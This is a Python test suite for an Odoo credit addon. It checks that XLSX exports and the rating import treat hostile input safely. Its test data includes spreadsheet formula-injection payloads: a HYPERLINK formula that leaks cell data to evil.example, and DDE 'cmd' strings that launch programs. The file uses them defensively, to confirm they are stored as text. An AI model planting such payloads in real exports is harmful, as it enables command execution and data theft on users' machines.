"""Hostile files: what the addon writes (XLSX exports) and what it reads (the
agency rating import) when names and files come from someone else."""

import base64
import io
import re
import time
import zipfile

import openpyxl
from odoo.exceptions import UserError
from odoo.tests import tagged

from .common import CreditCommon

# Texts Excel (or LibreOffice) would run as a formula if a cell held them as one.
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
HEADER = "Tax ID,Agency,Date,Rating\n"


def _sheet_xml(content):
    """{sheet file name: its XML} of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


@tagged("post_install", "-at_install")
class TestCreditXlsxExportInjection(CreditCommon):
    """Customer names that look like formulas reach the XLSX exports as text."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.hostile = cls.env["res.partner"].create(
            [{"name": name, "is_company": True} for name in FORMULA_NAMES]
        )
        for partner in cls.hostile:
            cls._invoice(100.0, partner=partner, days_ago=40)

    def _assert_text_cells(self, content, expected):
        """No sheet of ``content`` holds a formula, and each of ``expected`` is
        a cell's text, as written."""
        for name, xml in _sheet_xml(content).items():
            with self.subTest(sheet=name):
                self.assertIsNone(re.search(r"<f[ >]", xml), f"formula in {name}")
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        texts = {
            cell.value
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "s"
        }
        for name in expected:
            with self.subTest(name=name):
                self.assertIn(name, texts)

    def test_aging_xlsx_writes_formula_like_names_as_text(self):
        wizard = self.env["credit.aging.wizard"].create({"date": self.today})
        content = wizard._credit_aging_xlsx()
        self._assert_text_cells(content, FORMULA_NAMES)

    def test_audit_xlsx_writes_formula_like_names_as_text(self):
        self.hostile.credit_limit = 10.0
        self.hostile.credit_limit_applies = True
        for partner in self.hostile:
            order = self._order(500.0, partner=partner)
            order.with_user(self.credit_manager)._credit_approve(
                '=HYPERLINK("http://evil.example","ok")'
            )
        wizard = self.env["credit.audit.wizard"].create(
            {"date_from": self.today, "date_to": self.today}
        )
        content = wizard._credit_audit_xlsx()
        self._assert_text_cells(
            content, (*FORMULA_NAMES, '=HYPERLINK("http://evil.example","ok")')
        )


@tagged("post_install", "-at_install")
class TestCreditRatingImportHostileFiles(CreditCommon):
    """Files a credit manager may be handed: refused whole with a message, or
    read safely; never a crash, never a rating written from a refused file."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Import = cls.env["credit.rating.import"].with_user(cls.credit_manager)
        cls.agency = cls.env["credit.agency"].create(
            {"name": "Index Agency", "scale_best": 100, "scale_worst": 0}
        )
        cls.customer.vat = "BE0477472701"
        cls.day = cls.today.isoformat()

    def _import(self, content, name="ratings.csv"):
        return self.Import.create(
            {"file": base64.b64encode(content), "file_name": name}
        )

    def _assert_refused_whole(self, content, message, name="ratings.csv"):
        ratings = self.env["credit.rating"].search_count([])
        record = self._import(content, name=name)
        record.action_preview()
        self.assertEqual(record.state, "failed")
        self.assertRegex(record.result_message, message)
        with self.assertRaisesRegex(UserError, message):
            record.action_import()
        self.assertEqual(self.env["credit.rating"].search_count([]), ratings)
        self.assertFalse(record.rating_ids)
        return record

    def test_empty_and_blank_files_refused(self):
        # An empty upload stores no file at all.
        self._assert_refused_whole(b"", "Upload a CSV or XLSX file first")
        for content in (b"\n\n  \n", "\ufeff".encode(), b",,,\n,,\n"):
            with self.subTest(content=content):
                self._assert_refused_whole(content, "is empty")

    def test_header_only_file_refused(self):
        self._assert_refused_whole(HEADER.encode(), "header line but no ratings")

    def test_binary_garbage_refused(self):
        garbage = bytes(range(256)) * 40
        self._assert_refused_whole(garbage, r"not UTF-8|neither a CSV")
        # A zip that is no spreadsheet.
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("evil.txt", "x" * 1000)
        self._assert_refused_whole(
            buffer.getvalue(), "cannot be read as an XLSX", name="ratings.xlsx"
        )

    def test_utf16_file_is_read(self):
        text = HEADER + f"BE0477472701,Index Agency,{self.day},55\n"
        for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
            with self.subTest(encoding=encoding):
                content = text.encode(encoding)
                if encoding != "utf-16":
                    bom = "\ufeff".encode(encoding)
                    content = bom + content
                record = self._import(content)
                record.action_preview()
                self.assertEqual(record.state, "previewed", record.result_message)
                self.assertIn("UTF-16", record.result_message)
                self.assertEqual(record.line_ids.partner_id, self.customer)

    def test_utf16_without_bom_and_latin1_refused_with_the_encoding(self):
        text = HEADER + f"BE0477472701,Société Index,{self.day},55\n"
        self._assert_refused_whole(text.encode("latin-1"), "Wrong encoding")
        self._assert_refused_whole(text.encode("utf-16-le"), r"not UTF-8|neither a CSV")

    def test_formula_cells_are_plain_text(self):
        """A formula in a CSV cell is text: as a rating it is refused on its
        line, as a name it matches no one; nothing is evaluated or recorded."""
        content = (
            "Tax ID,Name,Agency,Date,Rating\n"
            f',"=HYPERLINK(""http://evil"",""x"")",Index Agency,{self.day},55\n'
            f"BE0477472701,,Index Agency,{self.day},=1+1\n"
            f"BE0477472701,,=cmd|' /C calc'!A0,{self.day},55\n"
            f"BE0477472701,,Index Agency,@SUM(1),55\n"
        ).encode()
        ratings = self.env["credit.rating"].search_count([])
        record = self._import(content)
        record.action_preview()
        self.assertEqual(record.state, "failed")
        self.assertEqual(record.error_count, 4)
        lines = record.line_ids.sorted("line_number")
        self.assertEqual(lines[0].partner_name, '=HYPERLINK("http://evil","x")')
        self.assertFalse(lines.partner_id - self.customer)
        self.assertTrue(all(line.error for line in lines))
        with self.assertRaises(UserError):
            record.action_import()
        self.assertEqual(self.env["credit.rating"].search_count([]), ratings)

    def test_hundred_thousand_lines_refused_quickly(self):
        line = f"BE0477472701,Index Agency,{self.day},55\n"
        content = (HEADER + line * 100_000).encode()
        start = time.monotonic()
        self._assert_refused_whole(
            content, r"has 100000 lines: at most 20000 can be imported at once"
        )
        # Read twice (preview, import): about 2 s each on the project machine.
        self.assertLess(time.monotonic() - start, 30.0)

    def test_repeated_line_errors_stay_short(self):
        """Every copy of a line repeated 3,000 times is a duplicate; each says
        so in a few words (listing every other line built 9 million numbers,
        and 10^10 for 100,000 lines: the preview ran out of memory)."""
        line = f"BE0477472701,Index Agency,{self.day},55\n"
        record = self._import((HEADER + line * 3000).encode())
        record.action_preview()
        self.assertEqual(record.state, "failed")
        self.assertEqual(record.error_count, 3000)
        errors = record.line_ids.sorted("line_number").mapped("error")
        self.assertEqual(
            errors[0],
            "Duplicate line: same customer, agency and date as line(s) "
            "3, 4, 5, 6, 7 and 2994 more.",
        )
        self.assertEqual(
            errors[-1],
            "Duplicate line: same customer, agency and date as line(s) "
            "2, 3, 4, 5, 6 and 2994 more.",
        )
        self.assertLess(max(len(error) for error in errors), 200)
